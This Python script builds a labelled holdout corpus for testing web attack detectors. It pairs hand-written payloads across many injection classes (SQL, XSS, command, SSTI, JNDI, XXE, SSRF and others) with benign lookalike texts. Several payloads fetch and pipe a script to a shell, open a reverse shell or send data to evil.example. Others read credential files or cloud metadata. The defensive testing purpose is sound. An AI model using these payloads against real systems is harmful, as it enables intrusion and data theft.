"""Holdout part of the corpus: payloads and benign texts written after the
detectors were tuned on the generated corpus, to measure how detection
generalises. Each case is written out by hand; no random sampling."""

import json
import urllib.parse

UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15"

ATTACKS = {
    "sql_injection": [
        "2 UNION/*foo*/SELECT/*bar*/password,2 FROM admins", "x') UNION ALL SELECT NULL--", "5 OR 2>1",
        "abc' AND 0=BENCHMARK(3000000,SHA1(1))#", "' or 2 between 1 and 3--", "1' AND 'a'<'b",
        "-5 UNION SELECT column_name FROM information_schema.columns", "1;DECLARE @q VARCHAR(99);EXEC(@q)",
        "ab' OR 'ab' LIKE 'a%", "99999' OR 1 IN (SELECT 1)--", "1 AND ORD(MID(user(),1,1))>100",
        "' UnIoN SeLeCt 1,@@datadir,3-- -", "0x61' or 1=1#", "3' AND (SELECT 2 FROM(SELECT COUNT(*),CONCAT(0x7e,database())x FROM information_schema.tables GROUP BY x)y)--",
    ],
    "xss": [
        "<img/src/onerror=alert(2)>", "<svg><g onload=\"javascript:alert(1)\"></g></svg>", "<a/href=\"j&#97;vascript:alert`1`\">go",
        "<iframe/src=\"vbscript:msgbox(1)\">", "\"/><svg onload=prompt()>", "<body/onhashchange=alert(1)><a href=#x>click",
        "<video/poster=javascript:alert(1)//>", "<input onblur=alert(1) autofocus><input autofocus>", "</textarea><script>confirm(9)</script>",
        "<object type=text/html data=//evil.example/x>", "x\" onpointerenter=\"fetch('//e.example')", "<Img Src=1 OnLoAd=alert(1)>",
    ],
    "command_injection": [
        "8.8.8.8 | cat /etc/issue", "; wget -qO- http://evil.example/a|sh", "$(cat /etc/hostname)", "`uname -r`",
        "x && curl evil.example/$(whoami)", "|| nc evil.example 9001 -e /bin/bash", "; /usr/bin/id", "a | busybox telnet evil.example 23",
        "; perl -MIO -e 'print 1'", "127.0.0.1%0Awhoami", "& net user hacker P@ss /add", "; chown root /tmp/x",
    ],
    "path_traversal": [
        "../../../../../etc/issue", "..\\..\\..\\..\\boot.ini", "....\\\\....\\\\windows\\\\win.ini", "/proc/self/status",
        "..%2F..%2F..%2F..%2Fetc%2Fshadow", "/var/log/nginx/access.log", "../../../../home/app/.aws/credentials",
        "php://filter/read=string.rot13/resource=index.php", "..%255c..%255c..%255cwindows%255csystem.ini", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ],
    "ssrf": [
        "http://169.254.169.254/computeMetadata/v1/", "http://[::]:80/", "http://0x0a.0x00.0x00.0x01/", "http://017700000001/",
        "https://192.168.0.10:8443/api/admin", "http://metadata.google.internal./", "gopher://10.0.0.3:11211/_stats", "http://localhost.localdomain/",
        "http://[fe80::1%25eth0]/", "dict://127.0.0.1:6379/INFO", "http://127.127.127.127/", "http://169.254.169.254%2Flatest%2Fmeta-data",
    ],
    "template_injection": [
        "{{ 9 * 9 }}", "${ 6 * 7 }", "{{request.__class__.__mro__}}", "{{ ''.__class__ }}", "<%= File.open('/etc/passwd').read %>",
        "#{ 3 * 3 }", "${T(java.lang.Runtime).getRuntime().exec(\"whoami\")}", "{{config.__class__.__init__.__globals__['os']}}",
        "{{joiner.__init__.__globals__.os.popen('id').read()}}", "{{self._TemplateReference__context.cycler}}",
    ],
    "jndi_injection": [
        "${jndi:ldap://e.example:1389/Basic/Command/id}", "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://e.example/a}",
        "${jNdI:LdAp://e.example/x}", "${${::-j}ndi:dns://e.example/q}", "${jndi:rmi://[::1]:1099/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D",
    ],
    "ldap_injection": [
        "*)(|(cn=admin))", "jsmith)(|(objectClass=*))", "*)(userPassword=*)", "admin*)(|(givenName=*",
        "x)(!(objectclass=nothing))(uid=x", "*)(telephoneNumber=*",
    ],
    "xpath_injection": [
        "' or 1=1 or 'a'='b", "' or position()=1 or '", "x' or count(//*)>0 or 'x", "']/parent::*/child::node()|//*['",
        "' or string(//user[1]/name)='admin' or '",
    ],
    "nosql_injection": [
        "username[$ne]=toto&password[$ne]=toto", "login[$regex]=a.*&pass[$ne]=1", "id[$gt]=0", "search[$where]=1",
    ],
    "crlf_injection": [
        "%0d%0aLocation:%20http://evil.example", "%0aSet-Cookie:%20sess=1", "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>x</h1>",
        "utf8%E5%98%8A%E5%98%8DX-Test:%201",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://e.example/d.dtd">%d;]><r/>',
        '<!DOCTYPE data [<!ENTITY x SYSTEM "file:///proc/self/environ">]><data>&x;</data>',
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY bar SYSTEM "netdoc:///etc/passwd">]><foo>&bar;</foo>',
        '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//X//Y" "http://e.example/y.dtd"><x/>',
    ],
    "prototype_pollution": [
        '{"__proto__":{"polluted":"yes"}}', '{"a":1,"constructor":{"prototype":{"admin":true}}}',
        '{"nested":[{"deep":{"__proto__":{"x":1}}}]}',
    ],
    "remote_file_inclusion": [
        "http://e.example/r57.txt?", "https://e.example/shell.php?c=id", "ftp://203.0.113.50/s.php", "\\\\e.example\\s\\x.php",
    ],
}

BENIGN = [
    ("sql_injection", "q", "Patrick O'Sullivan"), ("sql_injection", "q", "don't stop me now"), ("sql_injection", "q", "select fabrics from italy"),
    ("sql_injection", "q", "drop shipping and union rates"), ("sql_injection", "comment", "Order #4521: please update the address; thanks"),
    ("sql_injection", "comment", "I'd say 'yes' or 'no' -- either works"), ("sql_injection", "title", "Tom's Diner (1987) 12\" single"),
    ("sql_injection", "comment", "The query `SELECT name FROM users` is slow on prod, can we add an index?"),
    ("sql_injection", "q", "1 or 2 bedrooms"), ("sql_injection", "q", "50% or more off"), ("sql_injection", "q", "where is my order"),
    ("xss", "bio", "<p>I <strong>love</strong> hiking &amp; photography.</p>"), ("xss", "bio", "Ratings: 4 < 5 > 3"),
    ("xss", "comment", "Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy"), ("xss", "html", "<a href=\"/help#onboarding\" title=\"on load\">Help</a>"),
    ("xss", "comment", "The onload event fires after images load; onerror when they fail."),
    ("xss", "comment", "alert: your subscription expires soon"), ("xss", "q", "script writing course"),
    ("command_injection", "comment", "Ping me when done; I'll cat-sit for you & the kids | cheers"),
    ("command_injection", "comment", "Run `npm install && npm test` before pushing."), ("command_injection", "name", "Smith & Wesson | Ruger"),
    ("command_injection", "q", "who am i"), ("command_injection", "comment", "$(5) was the price; now $4"),
    ("path_traversal", "path", "../images/logo.png"), ("path_traversal", "comment", "Edit /etc/hosts on your laptop to point the domain at staging."),
    ("path_traversal", "file", "reports/2024/q1.pdf"), ("path_traversal", "comment", "Wait... what?? That's... odd."),
    ("ssrf", "url", "https://hooks.zapier.com/hooks/catch/123/abc/"), ("ssrf", "url", "https://203.0.113.10/callback"),
    ("ssrf", "comment", "Locally I run it on http://localhost:8080 and it works."), ("ssrf", "ip", "10.1.2.3"), ("ssrf", "ip", "192.168.1.20"),
    ("template_injection", "body", "Hi {{ first_name }}, your total is {{ total }}."), ("template_injection", "body", "Price ${price} incl. VAT"),
    ("template_injection", "body", "{% for item in items %}{{ item.name }}{% endfor %}"), ("template_injection", "comment", "rated 5*5 stars lol"),
    ("jndi_injection", "comment", "Costs ${amount} per month"), ("jndi_injection", "comment", "We use JNDI for datasource lookup in Tomcat."),
    ("ldap_injection", "comment", "Contact (sales) or (support)"), ("ldap_injection", "name", "Jane (Doe) Smith"),
    ("xpath_injection", "comment", "Use count(items) to get the size"), ("xpath_injection", "q", "it's 'great'"),
    ("nosql_injection", "comment", "The $where clause is deprecated in MongoDB 8"), ("nosql_injection", "price", "$ne pas oublier"),
    ("crlf_injection", "comment", "First line\r\nSecond line\r\nThird line"), ("crlf_injection", "comment", "To: Bob\nSubject: Hello\n\nHi Bob!"),
    ("xxe", "comment", "The <!DOCTYPE html> declaration goes first."), ("prototype_pollution", "comment", "JavaScript's __proto__ property is deprecated"),
    ("remote_file_inclusion", "url", "https://cdn.example.com/app.php?v=3"), ("remote_file_inclusion", "file", "https://example.com/terms.txt"),
    ("general", "q", "naïve café crème brûlée"), ("general", "q", "東京 ラーメン"), ("general", "q", "ميدان التحرير"),
    ("general", "token", "dGhpcyBpcyBqdXN0IGEgcGxhaW4gc2VudGVuY2U="), ("general", "q", "C:\\Users\\me\\Documents"),
    ("general", "comment", "Email me at jo@example.com or call +44 (0)20 7946 0000"),
]


def main(out_dir):
    cases = []
    n = 0
    for category, payloads in sorted(ATTACKS.items()):
        for p in payloads:
            placements = []
            if category in ("nosql_injection",):
                placements = [("GET", "/api/v2/session?" + p, None, [])]
            elif category == "prototype_pollution":
                placements = [("POST", "/api/v2/prefs", p, [["content-type", "application/json"]])]
            elif category == "xxe":
                placements = [("POST", "/api/v2/feed", p, [["content-type", "text/xml"]])]
            elif category == "crlf_injection":
                placements = [("GET", "/api/v2/go?to=" + urllib.parse.quote(p, safe="%"), None, [])]
            else:
                enc = urllib.parse.quote(p, safe="") if "%" not in p else urllib.parse.quote(p, safe="%")
                placements = [
                    ("GET", "/api/v2/items?filter=" + enc, None, []),
                    ("POST", "/api/v2/items", json.dumps({"data": {"attributes": {"value": p}}}), [["content-type", "application/json"]]),
                ]
            for method, target, body, headers in placements:
                n += 1
                c = {"id": "holdout-attack-%03d" % n, "label": "attack", "category": category, "method": method,
                     "target": target, "headers": [["user-agent", UA]] + headers}
                if body is not None:
                    c["body"] = body
                cases.append(c)
    for category, field, text in BENIGN:
        for method in ("GET", "POST"):
            n += 1
            if method == "GET":
                c = {"id": "holdout-benign-%03d" % n, "label": "benign", "category": category, "method": "GET",
                     "target": "/api/v2/items?%s=%s" % (field, urllib.parse.quote(text, safe="")), "headers": [["user-agent", UA]]}
            else:
                c = {"id": "holdout-benign-%03d" % n, "label": "benign", "category": category, "method": "POST",
                     "target": "/api/v2/items", "headers": [["user-agent", UA], ["content-type", "application/json"]],
                     "body": json.dumps({field: text, "meta": {"source": "holdout"}})}
            cases.append(c)
    import os
    os.makedirs(out_dir, exist_ok=True)
    with open(os.path.join(out_dir, "holdout.jsonl"), "w", encoding="utf-8") as f:
        for c in cases:
            f.write(json.dumps(c, ensure_ascii=False, sort_keys=True) + "\n")
    print("holdout: %d cases" % len(cases))
